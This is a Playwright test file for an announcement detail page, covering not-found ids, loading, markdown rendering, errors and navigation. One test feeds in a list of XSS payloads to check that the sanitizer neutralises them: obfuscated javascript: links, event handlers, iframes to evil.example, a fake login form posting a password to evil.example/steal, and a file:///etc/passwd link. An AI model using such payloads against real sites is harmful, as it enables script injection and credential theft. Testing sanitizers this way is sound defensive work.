import type { Page } from '@playwright/test'
import type { Control } from './support/control'
import { expectAccessible, expectNoToast, expectTitle } from './support/expectations'
import { openInApp } from './support/open-in-app'
import { expect, test } from './support/test'

test.beforeEach(async ({ signIn }) => signIn())

const article = (page: Page) => page.getByRole('article')
const title = (page: Page) => page.getByRole('heading', { level: 1 })

const announcement = (more: object = {}) => ({
  id: 5,
  title: '系统维护通知',
  content: '内容',
  announcement_type: 'maintenance',
  is_sticky: true,
  created_at: '2026-11-18T06:00:00Z',
  ...more,
})

const answer = (control: Control, data: unknown) =>
  control.fault({ operationId: 'getAnnouncement', status: 200, body: { code: 200, message: '', data } })

test.describe('an id without an announcement', () => {
  test.use({ expectedConsole: [/announcements\/(abc|1e3|-3)/] })

  for (const [id, requests] of Object.entries({ abc: 1, '0': 0, '1e3': 1, '-3': 1 }))
    test(
      `the id ${id} is not found, after as many requests as it may be an id`,
      { tag: ['@ann-08', '@two-01'] },
      async ({ page, control }) => {
        await openInApp(page, `/announcements/${id}`)
        await expect(title(page)).toHaveText('公告不存在')
        expect(await control.requests('getAnnouncement')).toHaveLength(requests)
      },
    )
})

test(
  'one call, a spinner, the announcement and the way back',
  { tag: ['@ann-09', '@ann-10', '@ann-11'] },
  async ({ page, control }) => {
    await control.hold('getAnnouncement')
    await openInApp(page, '/announcements/14')
    const loading = page.getByRole('status').filter({ hasText: '加载中' })
    await expect(loading).toBeVisible()
    // The spinner, and grey blocks for the title, what is below it and four lines.
    await expect(loading.locator('[aria-hidden=true]')).toHaveCount(8)
    await expect(title(page)).toHaveText('公告')
    await expectAccessible(page)
    await control.release('getAnnouncement')
    await expect(title(page)).toHaveText('新手必读：如何搭建第一个节点')
    await expect(article(page)).toContainText('通知')
    await expect(article(page)).toContainText('置顶')
    await expect(article(page).getByText(/^20\d\d年\d{1,2}月\d{1,2}日 \d\d:\d\d 发布$/)).toBeVisible()
    await expectTitle(page, '公告：新手必读：如何搭建第一个节点')
    expect((await control.requests('getAnnouncement')).map(({ path }) => path)).toEqual([
      '/api/announcements/14',
    ])
    const back = page.getByRole('link', { name: '返回', exact: true })
    await expect(back.locator('svg')).toHaveCount(1)
    await back.click()
    await expect(page).toHaveURL('/announcements')
  },
)

const everything = `# 一级标题

## 二级标题

- 列表项
- [x] 已办
- [ ] 待办

1. 第一

[链接](https://example.com/help) 和 \`代码\`[^1]

\`\`\`
echo hi
\`\`\`

| 套餐 | 价格 |
| --- | --- |
| 4 核 | $15.00 |

![图](/icon.svg)

[^1]: 注释
`

test(
  'markdown: headings, lists, links, code, tables, images',
  { tag: ['@ann-12'] },
  async ({ page, control }) => {
    await answer(control, { data: announcement({ content: everything }) })
    await openInApp(page, '/announcements/5')
    const text = article(page)
    await expect(title(page)).toHaveText('系统维护通知')
    await expect(text.getByRole('heading', { level: 2 })).toHaveText(['一级标题', '二级标题', '脚注'])
    await expect(text.getByRole('heading', { name: '脚注' })).toHaveCSS('position', 'absolute')
    await expect(text.getByRole('listitem').filter({ hasText: '列表项' })).toBeVisible()
    await expect(text.getByRole('checkbox', { name: '已完成' })).toBeChecked()
    await expect(text.getByRole('checkbox', { name: '未完成' })).not.toBeChecked()
    await expect(text.getByRole('link', { name: '回到正文' })).toHaveAttribute(
      'href',
      '#user-content-fnref-1',
    )
    await expect(text.locator('pre code')).toHaveText('echo hi\n')
    await expect(text.getByRole('table').getByRole('cell')).toHaveText(['4 核', '$15.00'])
    await expect(text.getByRole('img', { name: '图' })).toHaveJSProperty('complete', true)
    await text.getByRole('link', { name: '1', exact: true }).click()
    await expect(page).toHaveURL(/#user-content-fn-1$/)
    await expect(page.locator('#user-content-fn-1')).toBeInViewport()
    await expectAccessible(page)
  },
)

/** Whatever a malicious writer of announcements might try. */
const hostile = `
<script>window.broken = 'script'</script>
<img src=x onerror="window.broken = 'onerror'"> <svg onload="window.broken = 'onload'"></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<embed src="https://evil.example/e"><base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="password"><button>登录已过期</button></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0" onmouseover="window.broken = 'hover'">盖住一切</div>
<a href="javascript:window.broken='html'">原文链接</a>

[脚本](javascript:window.broken='link') [大写](JaVaScRiPt:window.broken='case')
[实体](&#106;avascript:window.broken='entity') [控制符](<java\tscript:window.broken='tab'>)
[数据](data:text/html,<script>window.broken='data'</script>) [VB](vbscript:window.broken)
[块](blob:https://evil.example/1) [文件](file:///etc/passwd)
[聊天](irc://evil.example/room) [私聊](xmpp:a@example.com)
<javascript:window.broken='auto'> ![图](javascript:window.broken='img') ![数据图](data:image/svg+xml,<svg/>)
![聊天图](irc://evil.example/image)

[引用][1] [正常](https://example.com/ok "标题") [邮件](mailto:a@example.com) [站内](/nodeExplore)

[1]: javascript:window.broken='reference
`

test(
  'hostile content has no effect; links open in a tab of their own',
  { tag: ['@ann-13'] },
  async ({ page, control, context }) => {
    const foreign: string[] = []
    await context.route(/evil\.example/, (route) => {
      foreign.push(route.request().url())
      return route.abort()
    })
    await answer(control, { data: announcement({ content: hostile }) })
    await openInApp(page, '/announcements/5')
    const text = article(page)
    await expect(text.getByRole('link', { name: '正常' })).toBeVisible()
    await expect(
      text.locator(
        'script, iframe, object, embed, base, form, input, button, style, link, meta, svg, img, [style]',
      ),
    ).toHaveCount(0)
    const attributes = await text.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    )
    expect(attributes).toEqual([])
    const links = await text
      .getByRole('link')
      .evaluateAll((all) =>
        all.map((one) => [one.getAttribute('href'), one.getAttribute('target'), one.getAttribute('rel')]),
      )
    expect(links).toEqual(
      ['https://example.com/ok', 'mailto:a@example.com', '/nodeExplore'].map((href) => [
        href,
        '_blank',
        'noopener noreferrer',
      ]),
    )
    for (const name of ['脚本', '大写', '实体', '数据', '块', '引用']) await expect(text).toContainText(name)
    await text.hover()
    expect(await page.evaluate(() => Reflect.get(window, 'broken'))).toBeUndefined()
    expect(foreign).toEqual([])
    await expect(page).toHaveURL('/announcements/5')
    const opening = context.waitForEvent('page')
    await text.getByRole('link', { name: '站内' }).click()
    const opened = await opening
    await expect(opened).toHaveURL('/nodeExplore')
    expect(await opened.evaluate(() => window.opener)).toBeNull()
  },
)

for (const content of ['', ' \n ', null])
  test(
    `without content (${JSON.stringify(content)}) it says so`,
    { tag: ['@ann-14'] },
    async ({ page, control }) => {
      await answer(control, { data: announcement({ title: '', content }) })
      await openInApp(page, '/announcements/5')
      await expect(article(page)).toContainText('暂无详细内容')
      await expect(title(page)).toHaveText('-')
      await expectTitle(page, '公告：-')
    },
  )

test.describe('an announcement that is missing', () => {
  test.use({ expectedConsole: [/announcements/] })

  test(
    'a missing one: a hint and the way back, no toast',
    { tag: ['@ann-10', '@ann-15'] },
    async ({ page }) => {
      await openInApp(page, '/announcements/99999')
      await expect(title(page)).toHaveText('公告不存在')
      await expectTitle(page, '公告详情')
      await expect(page.getByRole('main')).toContainText('可能已被删除')
      await expect(page.getByRole('button', { name: '重试' })).toHaveCount(0)
      await expectNoToast(page)
      await expectAccessible(page)
      const back = page.getByRole('link', { name: '返回公告列表' })
      await expect(back.locator('svg')).toHaveCount(0)
      await back.click()
      await expect(page).toHaveURL('/announcements')
    },
  )

  test('a failure looks the same and can be tried again', { tag: ['@ann-15'] }, async ({ page, control }) => {
    await control.fault({ operationId: 'getAnnouncement', status: 500, times: 1 })
    await openInApp(page, '/announcements/14')
    await expect(title(page)).toHaveText('公告不存在')
    await expectNoToast(page)
    await page.getByRole('button', { name: '重试' }).click()
    await expect(title(page)).toHaveText('新手必读：如何搭建第一个节点')
  })

  for (const [what, data] of [
    ['null', null],
    ['an empty holder', { data: null }],
    ['an empty object', {}],
  ] as const)
    test(
      `${what} instead of an announcement is 公告不存在`,
      { tag: ['@ann-15'] },
      async ({ page, control }) => {
        await answer(control, data)
        await openInApp(page, '/announcements/5')
        await expect(title(page)).toHaveText('公告不存在')
        await expectNoToast(page)
      },
    )
})

for (const [what, data] of [
  ['data.data', { data: announcement() }],
  ['data', announcement()],
] as const)
  test(`it is read from ${what}`, { tag: ['@ann-16'] }, async ({ page, control }) => {
    await answer(control, data)
    await openInApp(page, '/announcements/5')
    await expect(title(page)).toHaveText('系统维护通知')
  })

test(
  'the banner leads from one announcement to another, which never shows the previous one',
  { tag: ['@ann-17'] },
  async ({ page, control }) => {
    await openInApp(page, '/announcements/14')
    await expect(title(page)).toHaveText('新手必读：如何搭建第一个节点')
    await control.hold('getAnnouncement')
    await page
      .getByRole('region', { name: '公告', exact: true })
      .getByRole('link', { name: '东京机房电力波动' })
      .click()
    await expect(page).toHaveURL('/announcements/13')
    await expect(page.getByRole('status').filter({ hasText: '加载中' })).toBeVisible()
    await expect(article(page)).toHaveCount(0)
    await control.release('getAnnouncement')
    await expect(title(page)).toHaveText('东京机房电力波动')
  },
)

test(
  'axe finds nothing on tables and code, light and dark',
  { tag: ['@qua-01'] },
  async ({ page, control }) => {
    await answer(control, { data: announcement({ content: everything }) })
    await openInApp(page, '/announcements/5')
    await expect(article(page).getByRole('table')).toBeVisible()
    await expectAccessible(page)
  },
)
